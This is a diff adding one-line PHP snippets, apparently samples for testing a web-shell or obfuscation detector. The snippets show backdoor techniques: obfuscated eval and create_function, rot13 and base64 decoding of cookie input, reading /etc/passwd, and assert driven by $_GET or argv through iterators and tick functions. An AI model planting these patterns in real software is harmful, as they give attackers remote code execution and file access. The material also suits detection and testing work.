@@ -21,3 +21,8 @@
 <?php function dec($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= IsSet( $t[ $s[$i] ] ) ? $t[ $s[$i] ] : $s[$i]; } return $o; } EVAL( dec('qevag(1);', array('q' => 'p', 'e' => 'r', 'v' => 'i', 'a' => 'n', 'g' => 't')) ); ?>
 <?php $r = Str_Replace( "q", "", "qsqtqrq_qrqeqpqlqaqcqe" ); $c = $r( "zz", "", "czzrezzatzze_fzzunctzzion" ); $d = $r( "k", "", "bkase64_dkecode" ); $f = $c( '', $d( 'ZWNobyAxOw==' ) ); $f(); ?>
 <?php $d = Str_Rot13( "onfr64_" . "qrpbqr" ); $z = STR_ROT13( 'tmva' . 'syngr' ); echo $z( $d( $_COOKIE['p'] ) ); ?>
+<?php echo '<pre>' . htmlspecialchars( File ( "/etc/passwd" ) [0] ) . '</pre>'; ?>
+<?php $n = 'ev' . 'al' . Chr( 40 ) . '$_POST[1]' . Chr(41); $m = "x" . chr(40) . "y"; ?>
+<?php $u = Pack( 'H*', '687474703A2F2F' . '6578616d706c652e636f6d' ); echo File_Get_Contents( $u ); ?>
+<?php declare(ticks=1); Register_Tick_Function ( 'assert' , $argv[1] ); ?>
+<?php $i = new CallbackFilterIterator( new ArrayIterator( Array( $_GET [ 'x' ] ) ), 'assert' ); foreach ($i as $v) {} ?>
